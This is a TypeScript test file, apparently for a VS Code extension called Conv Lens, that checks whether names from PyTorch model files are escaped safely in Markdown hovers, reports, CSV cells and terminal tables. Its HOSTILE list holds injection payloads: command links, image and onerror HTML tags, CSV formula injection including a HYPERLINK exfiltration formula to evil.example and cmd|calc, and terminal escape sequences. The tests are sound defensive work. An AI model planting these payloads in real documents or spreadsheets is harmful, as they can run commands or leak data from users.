import { strict as assert } from 'node:assert';
import MarkdownIt from 'markdown-it';
import { csvCell, fileSubjects, renderReport } from '../../../src/report';
import { declarationHover, forwardCallHover, shapeNoteHover } from '../../../src/extension/text/hover';
import { unknownLayerLensTitle, siteLensTitle, statusText } from '../../../src/extension/text/lens';
import { labelText, mdCode, mdLinkTarget, mdText, oneLine } from '../../../src/extension/text/markdown';
import { DEFAULT_DISPLAY } from '../../../src/extension/text/numbers';
import { ConvDeclaration, FileAnalysis } from '../../../src/analysis/types';
import { sampleAnalysis } from './analysis-fixture';

/**
 * Names a model file can choose (ModuleDict keys, add_module / setattr names, strings in error
 * messages). Each must render as its own characters: no link, image, HTML, entity or command.
 */
export const HOSTILE = [
  '[x](command:convLens.showReport?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)',
  '![i](https://evil.example/x.png)',
  '[![i](https://evil.example/x.png)](command:workbench.action.terminal.new)',
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  '<a href="command:convLens.showReport">click</a>',
  '``a```b`',
  '`',
  '` [x](command:evil) `',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\tTAB',
  '\r=1+1',
  'https://evil.example/x',
  'www.evil.example',
  'evil.example/path',
  'mail@evil.example',
  '<https://evil.example>',
  '[x]\n\n[x]: https://evil.example',
  'a\n\n![i](https://evil.example/y.png)',
  '&lt;img src=x&gt; &#x5B;x&#x5D;&#40;command:evil&#41;',
  '$(alert) $(loading~spin)',
  '**bold** _em_ ~~strike~~ # heading | cell |',
  'a\\[x\\](command:evil)',
  'ab\u202Ecd\u2066ef\u0000gh',
  'x'.repeat(5000),
];

/** The strictest renderer a report could meet: raw HTML on, and bare URLs turned into links. */
const md = new MarkdownIt({ html: true, linkify: true });

function decode(html: string): string {
  return html.replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

function assertInert(html: string, context: string): void {
  assert.doesNotMatch(html, /<a[\s>]/, `a link formed from ${context}: ${html}`);
  assert.doesNotMatch(html, /<img[\s>]/, `an image formed from ${context}: ${html}`);
  assert.doesNotMatch(html, /<(?!\/?(p|code|strong|em|table|thead|tbody|tr|th|td|ul|li|br|hr|h[1-6])[\s>/])/, `raw HTML passed from ${context}: ${html}`);
}

describe('Markdown escaping of file text', () => {
  it('renders every hostile name as its own characters, inline, bold and in a table', () => {
    for (const name of HOSTILE) {
      const shown = oneLine(name);
      const inline = md.renderInline(mdText(name));
      assertInert(inline, JSON.stringify(name));
      assert.equal(decode(inline), shown);
      assertInert(md.render(`**${mdText(name)}**`), name);
      const table = md.render(`| a | b |\n|---|---|\n| ${mdText(name)} | x |`);
      assertInert(table, name);
      // Table cells are trimmed; the characters between are the name's.
      assert.equal(decode(/<td>(.*?)<\/td>/.exec(table)![1]), shown.trim());
    }
  });

  it('puts any text in a code span verbatim, fenced past its longest backtick run', () => {
    for (const name of HOSTILE) {
      const html = md.renderInline(mdCode(name));
      assertInert(html, name);
      const code = /^<code>(.*)<\/code>$/s.exec(html);
      assert.ok(code, `not one code span: ${html}`);
      assert.equal(decode(code[1]), oneLine(name));
      const cell = md.render(`| a | b |\n|---|---|\n| ${mdCode(name, { inTable: true })} | x |`);
      assert.equal(decode(/<td><code>(.*?)<\/code><\/td>/s.exec(cell)![1]), oneLine(name), cell);
    }
    assert.equal(mdCode('a``b'), '```a``b```');
    assert.equal(mdCode('`x'), '`` `x ``');
  });

  it('keeps text to one line of bounded length, without bidirectional overrides', () => {
    assert.equal(oneLine('a\r\nb\nc\td'), 'a b c d');
    assert.equal(oneLine('ab\u202Ecd'), 'ab\uFFFDcd');
    assert.equal(oneLine('x'.repeat(5000)).length, 300);
  });

  it('makes a link target one destination, whatever it holds', () => {
    const html = md.renderInline(`[row](${mdLinkTarget('./a b) [x](command:evil).py#L3')})`);
    assert.equal((html.match(/<a /g) ?? []).length, 1);
    assert.match(html, /href="\.\/a%20b%29%20%5Bx%5D%28command:evil%29\.py#L3"/);
  });

  it('escapes theme icons in labels, and nothing else', () => {
    assert.equal(labelText('$(alert) x $(y'), '\\$(alert) x \\$(y');
    assert.equal(unknownLayerLensTitle({ message: "bad $(zap)\n'x'" }, null), "PyTorch raises: bad \\$(zap) 'x'");
    assert.equal(unknownLayerLensTitle(null, '$(flame)·n'), 'params = \\$(flame)·n');
  });
});

/** A conv declaration carrying hostile text in every field that comes from the file. */
function hostileDeclaration(name: string): ConvDeclaration {
  const where = { line: 1, column: 0, endLine: 1, endColumn: 5 };
  return {
    type: name, range: where, calleeRange: where, record: null,
    error: { phase: 'construct', exception: 'ValueError', message: `padding_mode must be one of ..., but got padding_mode='${name}'` },
    symbolic: { params: `9·${name}`, reasons: [`unknown condition: ${name}`] },
    instances: [name, `blocks.${name}`],
  };
}

describe('surfaces with hostile names', () => {
  const LINKS = { compare: 'command:convLens.compareLayer?%5B%7B%7D%5D', report: 'command:convLens.showReport?%5B%22file%3A%2F%2F%2Fws%2Fnet.py%22%5D' };

  it('hovers hold only the links Conv Lens put there', () => {
    for (const name of HOSTILE) {
      const uses = [{ name, model: name, record: null }, { name: `blocks.${name}`, model: `${name}2`, record: null }];
      const html = md.render(declarationHover(hostileDeclaration(name), null, LINKS, DEFAULT_DISPLAY, { uses, notReached: name }));
      const hrefs = [...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]);
      assert.deepEqual(hrefs, [LINKS.compare, LINKS.report], `${JSON.stringify(name)}: ${html}`);
      assert.doesNotMatch(html, /<img[\s>]/);
      const layer = { type: name, record: null, error: { phase: 'construct' as const, exception: 'ValueError' as const, message: name } };
      const call = { range: { line: 1, column: 0, endLine: 1, endColumn: 5 }, module: name, type: name, input: [1n], output: [1n] };
      assertInert(md.render(forwardCallHover(call, name, 1, layer, DEFAULT_DISPLAY)), name);
      assertInert(md.render(shapeNoteHover({ range: { line: 1, column: 0, endLine: 1, endColumn: 1 }, label: name, shape: [1n] })), name);
    }
  });

  it('the report and its lens titles hold only the row links Conv Lens put there', () => {
    const analysis = hostileAnalysis();
    const html = md.render(renderReport(fileSubjects(analysis, analysis.file), 'markdown', { link: (row) => `./net.py#L${row.line}` }));
    const hrefs = [...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]);
    assert.equal(hrefs.length, analysis.models[0].layers.length);
    for (const href of hrefs) assert.match(href, /^\.\/net\.py#L\d+$/);
    assert.doesNotMatch(html, /<img[\s>]/);
    for (const name of HOSTILE.slice(0, -1)) assert.ok(decode(html).includes(oneLine(name)), `${JSON.stringify(name)} is not shown as written`);
    assert.doesNotMatch(statusText(analysis.models[0], 'macs'), /(?<!\\)\$\(/);
    assert.doesNotMatch(siteLensTitle(analysis.models[0].layers.slice(0, 1).map((layer) => ({ layer })), 'macs'), /(?<!\\)\$\(/);
  });

  it('CSV cells never start a formula and keep CR, LF and quotes inside one quoted cell', () => {
    assert.equal(csvCell('=HYPERLINK("x")'), '"\'=HYPERLINK(""x"")"');
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${lead}1`)[0], '"');
    assert.equal(csvCell('a\rb'), '"a\rb"');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('conv1'), 'conv1');
    const csv = `${renderReport(fileSubjects(hostileAnalysis(), 'net.py'), 'csv')}\n`;
    const rows = parseCsv(csv);
    assert.equal(rows.length, 1 + hostileAnalysis().models[0].layers.length);
    for (const row of rows.slice(1)) {
      assert.equal(row.length, rows[0].length);
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    }
    assert.equal(rows[1 + HOSTILE.indexOf('\r=1+1')][2], "'\r=1+1");
  });
});

/** The sample analysis with one layer per hostile name, each with a hostile error too. */
function hostileAnalysis(): FileAnalysis {
  const analysis = sampleAnalysis();
  const model = analysis.models[0];
  const template = model.layers[0];
  const layers = HOSTILE.map((name) => ({ ...template, name, type: name, error: { phase: 'forward' as const, exception: 'RuntimeError' as const, message: `bad ${name}` } }));
  return { ...analysis, file: '/ws/[x](command:evil).py', models: [{ ...model, entry: '$(alert)[x](https://evil.example)', layers }] };
}

/** A strict RFC 4180 reader: quoted cells may hold commas, quotes (doubled), CR and LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  return rows;
}

describe('conv-lens report with hostile names', () => {
  const analysis = hostileAnalysis();
  const subject = { file: analysis.file, analysis, model: analysis.models[0], args: '' };

  it('Markdown holds no link or image and shows each name as written', () => {
    const html = md.render(renderReport([subject], 'markdown'));
    assertInert(html, 'the CLI report');
    for (const name of HOSTILE.slice(0, -1)) assert.ok(decode(html).includes(oneLine(name).trim()), `${JSON.stringify(name)} is not shown as written`);
  });

  it('the terminal table carries no control characters (no escape sequences reach the terminal)', () => {
    const withEscape = { ...subject, model: { ...subject.model, layers: [{ ...subject.model.layers[0], name: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u001b[2J' }] } };
    assert.doesNotMatch(renderReport([withEscape], 'table'), /[\u0000-\u0008\u000b-\u001f\u007f]/);
  });

  it('CSV cells never start a formula', () => {
    for (const row of parseCsv(`${renderReport([subject], 'csv')}\n`).slice(1)) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
    }
  });
});
